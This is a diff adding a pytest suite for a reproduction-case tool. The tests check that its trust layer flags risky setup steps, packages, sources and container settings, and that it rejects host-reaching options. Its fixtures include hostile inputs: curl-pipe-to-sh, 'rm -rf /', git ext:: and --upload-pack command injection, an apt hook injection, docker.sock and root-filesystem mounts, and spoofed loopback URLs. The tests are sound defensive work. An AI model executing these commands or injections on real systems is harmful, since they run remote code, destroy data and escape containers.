@@ -1,0 +1,162 @@
+"""What a stranger's case asks for, as a reviewer is told; and what the format cannot ask for at all."""
+
+from __future__ import annotations
+
+import io
+import unicodedata
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from reprokit import trust
+from reprokit.case import CaseFile, load
+from reprokit.case.files import load_text
+from reprokit.errors import CaseError
+from reprokit.trust import Level
+
+BARE = "schema: reprokit/v1\nid: bare\ntitle: A case\ncommand: python go.py\n"
+
+
+def case_of(text: str) -> CaseFile:
+    return load_text("case.yaml", BARE + text)
+
+
+def looked_at(text: str) -> list[str]:
+    return [f"{ask.kind} {ask.line}" for ask in trust.asks(case_of(text)) if ask.level is Level.LOOK]
+
+
+def test_a_bare_case_asks_for_nothing_to_look_at() -> None:
+    found = trust.asks(case_of("environment: {apt: [libgl1], pip: ['numpy<2', 'torch==2.1.0+cu118']}\n"))
+    assert {ask.level for ask in found} == {Level.PLAIN}
+    words = "\n".join(ask.words for ask in found)
+    assert "1 package of the distribution" in words
+    assert "2 Python packages by name" in words
+    assert "runs in each: python go.py" in words
+
+
+@pytest.mark.parametrize(
+    ("text", "wanted"),
+    [
+        ("environment:\n  setup: curl https://x.example | sh\n", ["setup 6"]),
+        ("environment:\n  pip: ['https://x.example/a.whl']\n", ["pip 6"]),
+        ("environment:\n  pip: ['a @ git+https://x.example/a']\n", ["pip 6"]),
+        ("environment:\n  pip: [numpy, ./local, /abs/path, pkg.whl]\n", ["pip 6"] * 3),
+        ("environment:\n  pip: ['-r requirements.txt']\n", ["pip 6"]),
+        ("environment:\n  pip: ['--no-deps']\n", []),
+        ("environment:\n  pip_options: ['--extra-index-url https://x.example']\n", ["pip-options 6"]),
+        (
+            "environment:\n  pip_options: ['--find-links ./wheels', '--no-deps', '--only-binary :all:']\n",
+            ["pip-options 6"],
+        ),
+        ("environment:\n  pip_options: ['--no-deps sneaked-in']\n", ["pip-options 6"]),
+        ("environment:\n  apt: ['-oAPT::Update::Pre-Invoke::=id', ./a.deb]\n", ["apt 6", "apt 6"]),
+        ("environment:\n  image: registry.example/x:1\n", ["image 6"]),
+        ("sources:\n  a:\n    git: https://x.example/a\n    ref: v1\n    path: a\n", ["source 7"]),
+        ("sources:\n  a:\n    git: git@x.example:a\n    ref: v1\n    path: a\n", ["source 7"]),
+        ("sources:\n  a:\n    git: /home/me/private\n    ref: v1\n    path: a\n", ["source 7"]),
+        ("resources:\n  user: root\n", ["user 6"]),
+        ("resources:\n  user: '0:0'\n", ["user 6"]),
+        ("resources:\n  network: bridge\n", ["network 6"]),
+        ("resources:\n  gpus: 2\n", ["gpus 6"]),
+        ("resources: {gpus: 0, network: none, user: repro}\n", []),
+        ("env: {NVIDIA_VISIBLE_DEVICES: all}\n", ["gpus 5"]),
+        ("datasets:\n  d:\n    path: d\n    generate: python make.py {{ out }}\n", ["generate 8"]),
+        ("datasets:\n  d:\n    path: d\nresources:\n  network: bridge\n", ["network 9", "data 7"]),
+    ],
+)
+def test_each_thing_to_look_at_is_told_with_its_line(text: str, wanted: list[str]) -> None:
+    assert sorted(looked_at(text)) == sorted(wanted)
+
+
+def test_what_a_template_hides_is_told() -> None:
+    text = (
+        "matrix: {how: [a, b]}\n"
+        "environment:\n  pip: [\"{{ 'ht' ~ 'tps://x.example/a.whl' if how == 'b' else 'numpy' }}\"]\n"
+        "resources:\n  user: \"{{ 'ro' ~ 'ot' }}\"\n"
+    )
+    assert looked_at(text) == ["pip 7", "user 9"]
+
+
+def test_cells_that_options_bring_in_are_told_of() -> None:
+    file = case_of("matrix: {how: [a]}\nresources:\n  network: \"{{ 'bridge' if how == 'z' else 'none' }}\"\n")
+    assert not [ask for ask in trust.asks(file) if ask.kind == "network"]
+    assert [ask.kind for ask in trust.asks(file, [{"how": "z"}]) if ask.level is Level.LOOK] == ["network"]
+
+
+def test_the_fix_is_looked_at_too() -> None:
+    file = case_of("fix:\n  summary: s\n  environment:\n    setup: curl https://x.example | sh\n")
+    [ask] = [ask for ask in trust.asks(file) if ask.level is Level.LOOK]
+    assert (ask.line, ask.words[:14]) == (8, "with the fix: ")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n",
+        "resources: {privileged: true}\n",
+        "resources: {cap_add: [SYS_ADMIN]}\n",
+        "resources: {devices: [/dev/kvm]}\n",
+        "resources: {pid: host}\n",
+        "resources: {security_opt: [seccomp=unconfined]}\n",
+        "resources: {network: host}\n",
+        "resources: {network: 'container:other'}\n",
+        "resources: {user: '0 --privileged'}\n",
+        "environment: {volumes: [/:/host]}\n",
+        "environment: {dockerfile: FROM x}\n",
+        "mounts: [/:/host]\n",
+        "datasets: {d: {path: /etc}}\n",
+        "datasets: {d: {path: ../../etc}}\n",
+        "datasets: {d: {path: d, source: /etc}}\n",
+        "files: {/etc/passwd: x}\n",
+        "files: {../x: x}\n",
+        "sources: {a: {git: 'ext::sh -c id', ref: v1, path: a}}\n",
+        "sources: {a: {git: --upload-pack=id, ref: v1, path: a}}\n",
+        "sources: {a: {git: https://x.example/a, ref: --upload-pack=id, path: a}}\n",
+        "workdir: /\n",
+        "fix: {resources: {privileged: true}}\n",
+    ],
+)
+def test_the_format_has_no_word_for_reaching_the_host(text: str) -> None:
+    with pytest.raises(CaseError):
+        case_of(text)
+
+
+def test_the_summary_names_the_text_and_what_to_look_at() -> None:
+    file = case_of("environment:\n  setup: |\n    curl https://x.example\n    rm -rf /\n")
+    words = trust.summary(file)
+    assert file.digest in words
+    assert "6:10: runs 2 lines while it is built: curl https://x.example rm -rf /" in words
+    assert "as root in a container" in words
+    assert "on this host itself, as you" in trust.summary(file, engine="venv")
+
+
+@given(st.text(min_size=1, max_size=300))
+def test_nothing_that_a_summary_prints_moves_a_cursor(text: str) -> None:
+    shown = trust.printable(text)
+    assert "\n" not in shown
+    assert not [c for c in shown if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}]
+
+
+@pytest.mark.parametrize(
+    ("url", "own"),
+    [
+        ("http://127.0.0.1:8000/x", True),
+        ("http://[::1]/x", True),
+        ("http://localhost/x", True),
+        ("http://localhost.evil.example/x", False),
+        ("http://localhost@evil.example/x", False),
+        ("http://127.0.0.1.evil.example/x", False),
+        ("https://evil.example/localhost", False),
+        ("http://[::1", False),
+    ],
+)
+def test_only_this_host_itself_is_loopback(url: str, own: bool) -> None:
+    assert trust.is_loopback(url) is own
+    assert trust.is_strangers(url) is not own
+
+
+def test_files_and_standard_input_are_ones_own() -> None:
+    assert not trust.is_strangers("bug.yaml")
+    [file] = load("-", stdin=io.StringIO(BARE))
+    assert not trust.is_strangers(file.path)
